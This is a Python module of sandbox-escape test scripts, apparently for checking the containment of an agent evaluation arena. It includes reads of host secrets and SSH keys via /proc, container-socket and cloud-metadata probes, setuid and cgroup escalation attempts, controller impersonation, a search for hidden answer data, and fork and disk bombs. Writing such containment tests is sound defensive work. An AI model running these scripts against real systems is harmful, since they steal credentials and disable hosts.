"""Attempts to break out of a sandbox, as scripts that run inside and tell when they got through.

Each script prints a line that starts with ``GOT THROUGH`` when it achieved what it tries. Words between @
signs are filled in by the arena: the place and the text of a secret on the host, another sandbox's workspace, a port of
the host that listens.
"""

from __future__ import annotations

from dataclasses import dataclass

_SYSCALL = """
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
x86 = platform.machine() == 'x86_64'
def call(name, number_x86, number_arm, *values):
    result = libc.syscall(number_x86 if x86 else number_arm, *values)
    if result >= 0:
        print('GOT THROUGH', name, result)
    return result
"""


@dataclass(frozen=True, slots=True)
class Escape:
    """One attempt.

    Args:
        name: short, for tables and test ids.
        goal: what it tries to do, in one clause.
        script: Python that runs inside; prints ``GOT THROUGH ...`` on success.
        seconds: its time limit; running into it is no success.
    """

    name: str
    goal: str
    script: str
    seconds: float = 60.0


READING = (
    Escape(
        "hidden-labels",
        "find the hidden bundle or the problem's packaged data anywhere in the file system",
        """
import os
small = 1 << 16
for top, folders, files in os.walk('/'):
    if top == '/':
        folders[:] = [f for f in folders if f not in ('proc', 'sys')]
    for name in files:
        path = os.path.join(top, name)
        if name == '@SECRET_NAME@' or ('/aar/problems/' in path) or path.endswith('-packages/aar/__init__.py'):
            print('GOT THROUGH', path)
        elif not top.startswith(('/usr', '/opt')):
            try:
                if os.path.isfile(path) and os.path.getsize(path) < small:
                    if b'@SECRET_TEXT@' in open(path, 'rb').read():
                        print('GOT THROUGH', path)
            except OSError:
                pass
""",
    ),
    Escape(
        "host-paths",
        "open the secret, other workspaces and well-known host files by their host paths, also through /proc",
        """
import glob
wanted = ['@SECRET_PATH@', '@OTHER_WORKSPACE@/secret.txt', '/etc/shadow', '/root/.ssh/id_rsa', '/etc/hostname-of-host']
roots = ['', '/proc/1/root', '/proc/self/root/..', '/proc/1/cwd', '/workspace/../..', *glob.glob('/proc/[0-9]*/root')]
for root in roots:
    for path in wanted:
        try:
            data = open(root + path, 'rb').read()
        except OSError:
            continue
        print('GOT THROUGH', root + path, data[:20])
""",
    ),
    Escape(
        "first-process",
        "read the memory, environment or descriptors of the first process",
        """
import os
for part in ('environ', 'mem', 'maps', 'fd', 'root', 'exe'):
    path = '/proc/1/' + part
    try:
        if part == 'fd':
            print('GOT THROUGH', os.listdir(path))
        elif part in ('root', 'exe'):
            print('GOT THROUGH', os.readlink(path))
        else:
            data = open(path, 'rb').read(64)
            if data:
                print('GOT THROUGH', path, data)
    except OSError:
        pass
""",
    ),
    Escape(
        "controller-environment",
        "find the controller's environment in any process",
        """
import glob, os
if any('@SECRET_TEXT@' in value for value in os.environ.values()):
    print('GOT THROUGH own environment')
for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/task/*/environ'):
    try:
        if b'@SECRET_TEXT@' in open(path, 'rb').read():
            print('GOT THROUGH', path)
    except OSError:
        pass
print(len(glob.glob('/proc/[0-9]*')), 'processes seen')
if len(glob.glob('/proc/[0-9]*')) > 12:
    print('GOT THROUGH: processes of the host are seen')
""",
    ),
    Escape(
        "kernel-files",
        "read or write what belongs to the kernel",
        """
for path in ('/proc/kcore', '/proc/kallsyms', '/dev/mem', '/dev/kmem', '/sys/kernel/debug/sched',
             '/dev/vda', '/dev/sda', '/dev/loop0'):
    try:
        data = open(path, 'rb').read(4096)
        if data and not data.startswith(b'0000000000000000'):
            print('GOT THROUGH', path)
    except OSError:
        pass
for path, text in (
    ('/proc/sys/kernel/core_pattern', '|/workspace/x'),
    ('/proc/sys/vm/overcommit_memory', '1'),
    ('/proc/sys/kernel/hostname', 'x'),
    ('/sys/kernel/uevent_helper', '/workspace/x'),
    ('/proc/1/oom_score_adj', '1000'),
    ('/proc/irq/default_smp_affinity', '1'),
):
    try:
        with open(path, 'w') as file:
            file.write(text)
        print('GOT THROUGH wrote', path)
    except OSError:
        pass
""",
    ),
)

REACHING = (
    Escape(
        "engine-socket",
        "talk to the engine that runs the sandboxes",
        """
import glob, socket
for path in ['/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock', '/run/podman/podman.sock',
             *glob.glob('/run/**/*.sock', recursive=True)]:
    try:
        sock = socket.socket(socket.AF_UNIX); sock.connect(path)
        print('GOT THROUGH', path)
    except OSError:
        pass
""",
    ),
    Escape(
        "network",
        "reach a server on the host, or any address at all",
        """
import socket
for address in [('127.0.0.1', @PORT@), ('@HOST_ADDRESS@', @PORT@), ('172.17.0.1', @PORT@), ('192.0.2.1', 80)]:
    try:
        socket.create_connection(address, timeout=2)
        print('GOT THROUGH', address)
    except OSError:
        pass
routes = open('/proc/net/route').read().splitlines()[1:]
if routes:
    print('GOT THROUGH: routes', routes)
try:
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); print('GOT THROUGH raw socket')
except OSError:
    pass
""",
    ),
    Escape(
        "cloud-metadata",
        "ask the cloud's metadata service, or the hypervisor, who this machine is",
        """
import socket
for address in [('169.254.169.254', 80), ('100.100.100.200', 80)]:
    try:
        socket.create_connection(address, timeout=2); print('GOT THROUGH', address)
    except OSError:
        pass
try:
    sock = socket.socket(40, socket.SOCK_STREAM); print('GOT THROUGH vsock')
except OSError:
    pass
for family in (17, 38, 29, 44):
    try:
        socket.socket(family, socket.SOCK_RAW); print('GOT THROUGH family', family)
    except OSError:
        pass
""",
    ),
    Escape(
        "channel-impostor",
        "speak to the controller in the place of the sandbox's server",
        """
import json, socket, struct, time
body = json.dumps({'id': 1, 'done': {'reason': 'exited', 'code': 0, 'dropped': 0, 'seconds': 0.0}}).encode()
for _ in range(20):
    try:
        sock = socket.socket(socket.AF_UNIX); sock.settimeout(2); sock.connect('/run/aar/sock')
        sock.sendall(struct.pack('>II', len(body), 0) + body)
        time.sleep(0.01)
        if sock.recv(1):
            print('GOT THROUGH: the controller answered')
    except OSError:
        pass
import os
for change in (
    "os.unlink('/run/aar/sock')",
    "open('/run/aar/config.json', 'w')",
    "open('/opt/aar/server/main.py', 'a')",
):
    try:
        eval(change); print('GOT THROUGH', change)
    except OSError:
        pass
""",
    ),
    Escape(
        "forum-mirror",
        "write a post under another's name into the read-only mirror",
        """
import os, subprocess
for path in ('/forum/r2/post.md', '/forum/new.md', '/forum/r2/new.md'):
    try:
        open(path, 'w').write('forged'); print('GOT THROUGH', path)
    except OSError:
        pass
for change in (
    "os.unlink('/forum/r2/post.md')",
    "os.rename('/forum/r2', '/forum/r3')",
    "os.chmod('/forum/r2/post.md', 0o777)",
    "os.link('/forum/r2/post.md', '/forum/x')",
):
    try:
        eval(change); print('GOT THROUGH', change)
    except OSError:
        pass
if subprocess.run(['mount', '-o', 'remount,rw', '/forum'], capture_output=True).returncode == 0:
    print('GOT THROUGH remount')
""",
    ),
)

PRIVILEGES = (
    Escape(
        "system-calls",
        "mount, trace, load kernel programs, open keys, set the clock, make namespaces",
        _SYSCALL
        + """
buf = ctypes.create_string_buffer(4096)
call('mount', 165, 40, b'none', b'/tmp', b'tmpfs', 0, None)
call('umount2', 166, 39, b'/workspace', 2)
call('pivot_root', 155, 41, b'/tmp', b'/tmp')
call('chroot', 161, 51, b'/tmp')
call('ptrace', 101, 117, 16, 1, 0, 0)
call('process_vm_readv', 310, 270, 1, buf, 1, buf, 1, 0)
call('unshare user', 272, 97, 0x10000000)
call('unshare mount', 272, 97, 0x00020000)
call('setns', 308, 268, 0, 0)
call('bpf', 321, 280, 0, buf, 72)
call('perf_event_open', 298, 241, buf, 0, -1, -1, 0)
call('userfaultfd', 323, 282, 0)
call('keyctl', 250, 219, 0, -3, 1)
call('add_key', 248, 217, b'user', b'a', b'b', 1, -3)
call('io_uring_setup', 425, 425, 8, buf)
call('open_by_handle_at', 304, 265, -100, buf, 0)
call('settimeofday', 164, 170, buf, None)
call('clock_settime', 227, 112, 0, buf)
call('reboot', 169, 142, 0xfee1dead, 672274793, 0x89ABCDEF, 0)
call('swapon', 167, 224, b'/workspace/swap', 0)
call('init_module', 175, 105, buf, 4096, b'')
call('kexec_load', 246, 104, 0, 0, None, 0)
call('fsopen', 430, 430, b'tmpfs', 0)
call('open_tree', 428, 428, -100, b'/', 1)
call('iopl', 172, 9999, 3)
call('clone with new namespaces', 56, 220, 0x10000000 | 17, 0, 0, 0, 0)
call('syslog', 103, 116, 3, buf, 100)
""",
    ),
    Escape(
        "set-user-id",
        "become root through set-user-id programs or capabilities",
        """
import glob, os, shutil, subprocess
for change in ("os.setuid(0)", "os.setgid(0)", "os.setgroups([0])", "os.setresuid(0, 0, 0)"):
    try:
        eval(change); print('GOT THROUGH', change)
    except OSError:
        pass
shutil.copy('/bin/bash', '/workspace/sh'); os.chmod('/workspace/sh', 0o6755)
if 'euid=0' in subprocess.run(['/workspace/sh', '-p', '-c', 'id'], capture_output=True, text=True).stdout:
    print('GOT THROUGH copy of bash')
for line in ('su -c id', 'sudo -n id', 'newgrp root', 'mount --bind / /tmp && echo uid=0', 'chroot / id'):
    try:
        done = subprocess.run(line, shell=True, capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=5)
        if 'uid=0' in done.stdout:
            print('GOT THROUGH', line)
    except (OSError, subprocess.TimeoutExpired):
        pass
status = open('/proc/self/status').read()
capabilities = [line.split()[1] for line in status.splitlines() if line.startswith('Cap')]
if os.getuid() == 0 or any(int(mask, 16) for mask in capabilities) or 'NoNewPrivs:\\t1' not in status:
    print('GOT THROUGH: privileges', status)
""",
    ),
    Escape(
        "device-nodes",
        "make and open device nodes",
        """
import os, stat
for kind, major, minor in ((stat.S_IFBLK, 8, 0), (stat.S_IFBLK, 7, 0), (stat.S_IFCHR, 1, 1), (stat.S_IFBLK, 254, 0)):
    for folder in ('/workspace', '/tmp', '/dev/shm'):
        path = f'{folder}/node-{major}-{minor}-{kind}'
        try:
            os.mknod(path, kind | 0o666, os.makedev(major, minor)); open(path, 'rb').read(1)
            print('GOT THROUGH', path)
        except OSError:
            pass
try:
    os.mknod('/dev/new', 0o600); print('GOT THROUGH: /dev takes files')
except OSError:
    pass
""",
    ),
    Escape(
        "own-limits",
        "raise the limits it runs under",
        """
import os, resource, glob
for name in ('NOFILE', 'CORE', 'FSIZE', 'NPROC', 'AS'):
    limit = getattr(resource, 'RLIMIT_' + name)
    soft, hard = resource.getrlimit(limit)
    if hard != resource.RLIM_INFINITY:
        try:
            resource.setrlimit(limit, (hard + 1, hard + 1)); print('GOT THROUGH', name)
        except (OSError, ValueError):
            pass
try:
    os.nice(-20); print('GOT THROUGH nice')
except OSError:
    pass
for path in glob.glob('/sys/fs/cgroup/**/*', recursive=True)[:3000] + glob.glob('/run/cgroup/*'):
    if path.endswith(('.max', 'limit_in_bytes', 'cfs_quota_us', 'release_agent', 'cgroup.procs', 'notify_on_release')):
        try:
            with open(path, 'w') as file:
                file.write('-1')
            print('GOT THROUGH', path)
        except OSError:
            pass
for folder in glob.glob('/sys/fs/cgroup/*') + ['/run/cgroup']:
    try:
        os.mkdir(folder + '/mine'); print('GOT THROUGH', folder)
    except OSError:
        pass
""",
    ),
    Escape(
        "signals-and-clock",
        "kill, stop or unseat the first process, and set the clock",
        """
import os, signal, subprocess, time
for number in range(1, 65):
    try:
        os.kill(1, number)
    except OSError:
        pass
if subprocess.run(['date', '-s', '2001-01-01'], capture_output=True).returncode == 0:
    print('GOT THROUGH date')
try:
    time.clock_settime(time.CLOCK_REALTIME, 1); print('GOT THROUGH clock')
except OSError:
    pass
print('first process still', open('/proc/1/stat').read().split(')')[1].split()[0])
if open('/proc/1/stat').read().split(')')[1].split()[0] in 'TZX':
    print('GOT THROUGH: the first process stands still')
""",
    ),
    Escape(
        "server-imports",
        "have the server import code from the workspace, or change its files",
        """
import os
for name in ('os.py', 'sitecustomize.py', 'usercustomize.py', 'json.py', 'server/__init__.py'):
    os.makedirs(os.path.dirname('/workspace/' + name), exist_ok=True)
    open('/workspace/' + name, 'w').write("open('/workspace/.imported-' + str(__import__('os').getpid()), 'w')")
for folder in '/opt/aar/server /opt/site /opt/python/lib /opt/venv /usr/lib /etc /run / /dev /opt/bin'.split():
    try:
        open(folder + '/planted', 'w'); print('GOT THROUGH', folder)
    except OSError:
        pass
for name in ('os.py', 'sitecustomize.py', 'usercustomize.py', 'json.py', 'server/__init__.py'):
    os.unlink('/workspace/' + name)
if os.path.exists('/workspace/.imported-1'):
    print('GOT THROUGH: the server imported it')
""",
    ),
)

EXHAUSTION = (
    Escape(
        "fork-bomb",
        "take every process of the machine",
        "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass\n",
        3,
    ),
    Escape(
        "stubborn-fork-bomb",
        "outlive its time limit by forking in new sessions, deaf to signals",
        """
import os, signal
for number in range(1, 32):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True:
    try:
        if os.fork() == 0:
            os.setsid(); os.fork()
    except OSError: pass
""",
        3,
    ),
    Escape("memory-bomb", "take all memory", "keep = []\nwhile True: keep.append(bytearray(1 << 24))\n"),
    Escape(
        "memory-in-files",
        "take all memory through file systems in memory",
        """
import os
for folder in ('/dev/shm', '/tmp'):
    with open(folder + '/fill', 'wb') as file:
        try:
            for _ in range(4096): file.write(b'x' * (1 << 20))
            print('GOT THROUGH: 4 GiB in', folder)
        except OSError: pass
    os.unlink(folder + '/fill')
""",
    ),
    Escape(
        "disk-filler",
        "fill the host's disk through every writable place",
        """
import os
written = 0
for folder in ('/workspace', '/run/aar', '/run', '/var/tmp', '/'):
    for number in range(40):
        try:
            with open(f'{folder}/fill-{number}', 'wb') as file:
                while True:
                    written += file.write(b'x' * (1 << 20)); file.flush()
                    if written > @ROOM@ * 4:
                        raise SystemExit(print('GOT THROUGH', written))
        except OSError: pass
if written > @ROOM@ * 2: print('GOT THROUGH', written)
""",
    ),
    Escape(
        "many-files",
        "take every inode of the host",
        """
import os
os.makedirs('/workspace/many', exist_ok=True)
try:
    for number in range(2_000_000):
        os.close(os.open(f'/workspace/many/{number}', os.O_CREAT | os.O_WRONLY))
    print('GOT THROUGH')
except OSError: pass
""",
        20,
    ),
    Escape(
        "endless-output",
        "fill the host with 10 GB of output",
        "import subprocess\nsubprocess.run(['head', '-c', '10000000000', '/dev/zero'])\n",
    ),
    Escape(
        "descriptors",
        "take every open file of the host",
        """
import os
keep = []
try:
    while True:
        keep.append(os.open('/dev/null', os.O_RDONLY))
        if len(keep) > 100_000: raise SystemExit(print('GOT THROUGH'))
except OSError: pass
""",
    ),
    Escape(
        "kill-everything",
        "kill every process it can see, its supervisor included, and stay alive",
        """
import os, signal
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try: os.kill(-1, signal.SIGKILL)
        except OSError: pass
        open('/workspace/.outlived', 'w').write(str(os.getpid()))
        import time
        time.sleep(600)
import time
time.sleep(600)
""",
        20,
    ),
)

ESCAPES = (*READING, *REACHING, *PRIVILEGES, *EXHAUSTION)
"""All scripts. What needs the host's hand (transfers, limits) is in ``aar.testing.escape_suite``."""
